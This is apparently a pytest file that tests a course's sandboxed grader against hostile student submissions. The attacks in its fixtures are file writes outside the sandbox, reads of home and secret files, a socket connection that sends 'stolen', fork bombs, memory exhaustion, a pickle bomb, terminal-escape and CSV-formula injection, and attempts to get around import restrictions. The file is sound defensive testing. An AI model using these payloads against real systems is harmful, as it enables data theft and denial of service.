"""A hostile class: ``make grade STRICT=1`` with a secret, on honest students beside students whose answers
each try one harmful or dishonest thing. No harm happens, no forged mark is given, and the honest
students keep every point.

The harm is looked for outside the sandbox, where it would land: a file written into the teacher's
folder, a connection to a server of the machine, a process left running, the teacher's secret in
the report, a forged table on the screen, a formula in the CSV. The class is graded once (a few
exercises, so the whole file takes a minute or two); exercise 12's own holes are tried on the check
directly, with a short tournament.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest

from pianitsa101.checks import CheckError, check_strategy, sandbox
from pianitsa101.checks.grade import grade, table, to_csv
from pianitsa101.checks.pianitsa_checks import _compare_cases

pytestmark = pytest.mark.skipif(not sandbox.available(), reason="needs a sandbox (bubblewrap)")

ROOT = Path(__file__).resolve().parents[1]
SECRET = "hostile-class test secret"
MARK = "pianitsa101-hostile-marker"  # in the command line of any process an answer starts


def _answer(name: str) -> str:
    """The reference answer of an exercise, from its solution notebook."""
    nb = json.loads((ROOT / "exercises" / "solutions" / f"{name}.ipynb").read_text(encoding="utf-8"))
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("solution"))
    return "".join(cell["source"])


def _hand_in(folder: Path, student: str, name: str, answer: str) -> None:
    nb = json.loads((ROOT / "exercises" / f"{name}.ipynb").read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = answer
    (folder / student).mkdir(parents=True, exist_ok=True)
    (folder / student / f"{name}.ipynb").write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-8")


def _lookup_table_answer() -> str:
    """An answer to exercise 01 that knows the cases of the seeds printed in the repository, and nothing."""
    table = {}
    for seed in (0, 101):
        for _text, args, expected, _hint in _compare_cases(seed):
            a, b, lowest = args
            table[f"{a}|{b}|{int(lowest)}"] = expected
    return (f"TABLE = {table!r}\n"
            "def compare(a, b, lowest=Rank.SIX):\n"
            "    return TABLE.get(f'{a}|{b}|{int(lowest)}', 0)\n")


HONEST = {"01_compare": _answer("01_compare"), "04_gather": _answer("04_gather"),
          "05_tie_chance": _answer("05_tie_chance")}
COMPARE = HONEST["01_compare"]


def _hostile(teacher: Path, port: int) -> dict[str, str]:
    """student -> an answer to exercise 01 that tries one thing (and is right besides, where it can be)."""
    csv_path = teacher / "class" / "grades.csv"
    return {
        "writes_outside": f"open({str(teacher / 'pwned.txt')!r}, 'w').write('x')\n" + COMPARE,
        "writes_everywhere": ("import os\nfor p in ['/tmp/../pwned', os.path.expanduser('~/pwned'), "
                              f"'/dev/shm/pwned', {str(csv_path)!r}]:\n    try:\n"
                              "        open(p, 'w').write('alice,32')\n    except OSError:\n        pass\n"
                              + COMPARE),
        "reads_home": ("import os, glob\nfound = [open(p).read() for p in glob.glob('/root/*') + "
                       "glob.glob('/home/*/*') if os.path.isfile(p)]\nraise RuntimeError("
                       f"str(found) + open({str(teacher / 'secret_notes.txt')!r}).read())\n"),
        "leaks_secret": ("import os\nraise ValueError(os.environ.get('PIANITSA101_SECRET', "
                         "'no secret here'))\n"),
        "connects": (f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                     "s.sendall(b'stolen')\n" + COMPARE),
        "outlives": ("import subprocess, sys\n"
                     f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', {MARK!r}])\n"
                     + COMPARE),
        "forks": ("import os\nfor _ in range(10_000):\n    if os.fork() == 0:\n        import time\n"
                  "        time.sleep(120)\n" + COMPARE),
        "memory": "hog = bytearray(6 << 30)\n" + COMPARE,
        "forges_results": ("import glob, json\nfor d in glob.glob('/tmp/pianitsa101-grade-*'):\n"
                           "    for i in range(40):\n        open(f'{d}/{i}.json', 'w').write('{}')\n"
                           + COMPARE),
        "escapes": ("raise type('Err\\r\\x1b[2J\\x1b[Halice  01_compare  1  1', (Exception,), {})"
                    "('\\x1b[32m✓ 32/32\\x1b[0m')\n"),
        "pickles": ("import os, pickle, struct, sys\nbomb = b'(' * 200 + b']' * 100 + b'.'\n"
                    "os.write(int(sys.argv[2]), struct.pack('>I', len(bomb)) + bomb)\n"
                    "os.write(int(sys.argv[2]), struct.pack('>I', 2**31) + b'x' * 1000)\n" + COMPARE),
        "bare_import": "from pianitsa101 import game101\n" + COMPARE,
        "attribute": "import pianitsa101\nengine = pianitsa101.pianitsa\n" + COMPARE,
        "importlib": ("import importlib\nengine = importlib.import_module('pianitsa101.pianitsa.trick')\n"
                      + COMPARE),
        "sys_modules": "import sys\nengine = sys.modules['pianitsa101.game101']\n" + COMPARE,
        "computed": "engine = __import__('pianitsa101.' + 'game101'[::-1][::-1], fromlist=['x'])\n" + COMPARE,
        "oracles": "from pianitsa101.checks._oracles import leaders\n" + COMPARE,
        "gc_walk": ("import gc\nfound = [o for o in gc.get_objects() if type(o).__name__ == 'module']\n"
                    + COMPARE),
        "source_exec": ("import pianitsa101, os\n"
                        "exec(open(os.path.join(os.path.dirname(pianitsa101.__file__), "
                        "'pianitsa', 'trick.py')).read(), {})\n" + COMPARE),
        "lookup_table": _lookup_table_answer(),
        "=HYPERLINK(\"x\")": COMPARE,  # a folder named like a formula
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory):
    teacher = tmp_path_factory.mktemp("teacher")
    (teacher / "secret_notes.txt").write_text("the teacher's notes", encoding="utf-8")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                received.append(conn.recv(100) or b"(connected)")
                conn.close()
            except OSError:
                continue

    threading.Thread(target=serve, daemon=True).start()
    folder = teacher / "class"
    for student in ("honest_a", "honest_b"):
        for name, answer in HONEST.items():
            _hand_in(folder, student, name, answer)
    for student, answer in _hostile(teacher, server.getsockname()[1]).items():
        _hand_in(folder, student, "01_compare", answer)
    _hand_in(folder, "stub_gather", "04_gather", "raise NotImplementedError()\n")
    old = {key: os.environ.get(key) for key in ("PIANITSA101_SECRET", "PIANITSA101_UNSAFE")}
    os.environ["PIANITSA101_SECRET"] = SECRET
    os.environ.pop("PIANITSA101_UNSAFE", None)
    try:
        start = time.monotonic()
        grades = grade([folder], folder / "grades.csv", timeout=20, jobs=2, strict=True)
        seconds = time.monotonic() - start
    finally:
        for key, value in old.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
        time.sleep(1)
        stop.set()
        server.close()
    scores = {(g.student, s.exercise): s for g in grades for s in g.scores}
    return teacher, folder, grades, scores, received, seconds


def test_honest_students_keep_every_point(graded):
    _, _, _, scores, _, _ = graded
    for student in ("honest_a", "honest_b"):
        for name in HONEST:
            score = scores[(student, name)]
            assert score.points == score.max and not score.flags, (student, score)


# Answers that are right besides, and whose attempt does nothing (it finds nothing to forge or is caught):
# their one point is earned honestly.
RIGHT_BESIDES = ("forges_results", "writes_everywhere", '=HYPERLINK("x")')


def test_no_hostile_answer_earns_a_mark(graded):
    _, folder, _, scores, _, _ = graded
    earned = {s: sc.points for (s, e), sc in scores.items() if not s.startswith("honest")}
    assert {s: p for s, p in earned.items() if p} == {s: 1.0 for s in RIGHT_BESIDES}
    rows = {r["student"]: r for r in csv.DictReader(io.StringIO((folder / "grades.csv").read_text()))}
    assert rows["stub_gather"]["total"] == "0" and rows["forges_results"]["total"] == "1"
    assert rows["honest_a"]["total"] == rows["honest_b"]["total"] == "5"


def test_no_harm_reaches_the_machine(graded):
    teacher, folder, _, _, received, _ = graded
    assert not (teacher / "pwned.txt").exists()
    assert not Path("/pwned").exists() and not Path(os.path.expanduser("~/pwned")).exists()
    assert received == []  # no connection reached the server
    for entry in Path("/proc").iterdir():  # no process of an answer is left
        try:
            assert MARK.encode() not in (entry / "cmdline").read_bytes()
        except (OSError, ValueError):
            continue
    text = (folder / "grades.csv").read_text(encoding="utf-8")
    assert text.startswith("student,") and "alice,32" not in text


def test_the_teachers_secret_and_files_stay_out_of_the_report(graded):
    _, _, grades, _, _, _ = graded
    shown = table(grades) + to_csv(grades)
    assert SECRET not in shown and "the teacher's notes" not in shown


def test_the_answers_texts_are_data_on_the_screen_and_in_the_csv(graded):
    _, folder, grades, scores, _, _ = graded
    shown = table(grades)
    assert "\x1b" not in shown and "\r" not in shown
    assert "\\x1b" in scores[("escapes", "01_compare")].note  # the escape is shown, not obeyed
    rows = list(csv.reader(io.StringIO((folder / "grades.csv").read_text(encoding="utf-8"))))
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert any(row[0] == "'=HYPERLINK(\"x\")" for row in rows)


def test_each_refusal_gives_its_reason(graded):
    _, _, _, scores, _, _ = graded
    reasons = {
        "bare_import": "cannot import name 'game101'",
        "attribute": "has no attribute 'pianitsa'",
        "importlib": "is not available to this answer",
        "sys_modules": "KeyError",
        "computed": "is not available to this answer",
        "oracles": "not available",
        "gc_walk": "gc.get_objects is not available",
        "source_exec": "not open to an answer",
        "lookup_table": "a wrong answer",
        "pickles": "could not be read",
        "escapes": "32/32",
        "reads_home": "FileNotFoundError",
        "leaks_secret": "ValueError: no secret here",
        "outlives": "Operation not permitted",
        "forks": "Operation not permitted",
        "connects": "ConnectionRefusedError",
        "memory": "MemoryError",
        "writes_outside": "FileNotFoundError",
    }
    for student, reason in reasons.items():
        score = scores[(student, "01_compare")]
        assert reason in score.note, (student, score.note)
        assert score.points == 0, (student, score)


def test_the_same_secret_gives_the_same_csv(tmp_path):
    folder = tmp_path / "class"
    for student in ("honest_a", "honest_b"):
        _hand_in(folder, student, "01_compare", COMPARE)
    _hand_in(folder, "wrong", "01_compare", "def compare(a, b, lowest=Rank.SIX):\n    return 1\n")
    texts = []
    os.environ["PIANITSA101_SECRET"] = SECRET
    try:
        for run in range(2):
            grade([folder], tmp_path / f"{run}.csv", timeout=20, jobs=2)
            texts.append((tmp_path / f"{run}.csv").read_bytes())
    finally:
        os.environ.pop("PIANITSA101_SECRET", None)
    assert texts[0] == texts[1] and b"honest_a,1," in texts[0] and b"wrong,0," in texts[0]


# --- exercise 12, on the check itself ------------------------------------------------------------

class _Recorder:
    """Keeps the seeds reset() is given; plays the first legal move."""

    def __init__(self) -> None:
        self.seeds: list[int] = []

    def reset(self, seed: int) -> None:
        self.seeds.append(seed)

    def choose(self, view, legal_moves):
        return legal_moves[0]


def test_reset_is_given_nothing_the_deals_come_from():
    from pianitsa101.game101 import RandomAgent
    from pianitsa101.strategy.tournament import _plan

    agent = _Recorder()
    with pytest.raises(CheckError):
        check_strategy(agent, seed=7, matches=20)
    drawn = {seed for duplicate in (False, True)
             for plan in _plan([agent, RandomAgent(seed=1)], 20, 7, 2, duplicate) for _i, seed in plan.resets}
    assert len(agent.seeds) == 20 and not set(agent.seeds) & drawn  # none of the generator's outputs


def test_reset_has_the_same_time_limit_as_choose():
    class Slow(_Recorder):
        def reset(self, seed: int) -> None:
            while True:
                pass

    with pytest.raises(CheckError, match="no answer within 1 second"):  # (it had 600 s, and so a hang here)
        check_strategy(Slow(), matches=20)


# --- the class tournament -----------------------------------------------------------------------

def test_a_hostile_tournament_entry_harms_nothing_and_forfeits_with_its_reason(tmp_path):
    from pianitsa101.checks.tournament import play_class_tournament
    from pianitsa101.checks.tournament_demo import HONEST as STRATEGIES
    from pianitsa101.checks.tournament_demo import write_notebook
    from pianitsa101.checks.tournament_entries import find_entries

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(5)
    port = server.getsockname()[1]
    honest = STRATEGIES["expensive_first"].replace("{w}", "0")
    hostile = {
        "writer": f"open({str(tmp_path / 'pwned.txt')!r}, 'w').write('x')\n" + honest,
        "connector": (f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
                      + honest),
        "spawner": ("import subprocess, sys\n"
                    f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', {MARK!r}])\n"
                    + honest),
        "forwarder": "from pianitsa101.game101 import HeuristicAgent\nMyAgent = HeuristicAgent\n",
        "escaper": ("class MyAgent:\n    def choose(self, view, legal_moves):\n"
                    "        raise type('E\\x1b[2J\\r=1+1', (Exception,), {})('\\x1b[31mwon')\n"),
    }
    folder = tmp_path / "class"
    write_notebook(folder / "honest" / "12_strategy.ipynb", honest)
    for name, code in hostile.items():
        write_notebook(folder / name / "12_strategy.ipynb", code)
    result = play_class_tournament(find_entries([folder]), matches=4, seed=3, jobs=1, limit=0.5,
                                   bots=("RandomAgent",))
    try:
        server.accept()
        connected = True
    except OSError:
        connected = False
    server.close()
    lines = {line.name: line for line in result.lines}
    assert not (tmp_path / "pwned.txt").exists() and not connected
    assert lines["honest"].forfeits == 0
    reasons = {"writer": "FileNotFoundError", "connector": "ConnectionRefusedError",
               "spawner": "Operation not permitted", "forwarder": "cannot import name 'HeuristicAgent'",
               "escaper": "\\x1b[31mwon"}
    for name, reason in reasons.items():
        assert lines[name].forfeits == lines[name].matches and reason in lines[name].note, lines[name]
    board = result.text() + result.to_csv()
    assert "\x1b" not in board and "\r" not in board and ",=" not in board
    for entry in Path("/proc").iterdir():
        try:
            assert MARK.encode() not in (entry / "cmdline").read_bytes()
        except (OSError, ValueError):
            continue


# --- where no sandbox can be made ---------------------------------------------------------------

def test_without_a_sandbox_the_tools_refuse_unless_the_teacher_says_unsafe(monkeypatch):
    from pianitsa101.checks.grade import refuse_without_sandbox
    from pianitsa101.checks.judge import Student

    assert "no sandbox on this system" in sandbox.sandbox_refusal("darwin")
    assert "bubblewrap is not installed" in sandbox.sandbox_refusal("linux", bwrap=None)
    monkeypatch.setattr(sandbox, "sandbox_refusal", lambda *a, **k: "bubblewrap is not installed")
    monkeypatch.delenv("PIANITSA101_UNSAFE", raising=False)
    with pytest.raises(SystemExit, match="refused: the students' code runs only in a sandbox"):
        refuse_without_sandbox()
    with pytest.raises(sandbox.SandboxUnavailable):
        Student()
    monkeypatch.setenv("PIANITSA101_UNSAFE", "1")
    monkeypatch.setenv("PIANITSA101_SECRET", SECRET)
    refuse_without_sandbox()  # a warning, and the students' code runs as the teacher's user ...
    command, env, _fds = sandbox.sandboxed(["python", "answer.py"])
    assert command[-2:] == ["python", "answer.py"]
    assert "PIANITSA101_SECRET" not in env  # ... without the secret
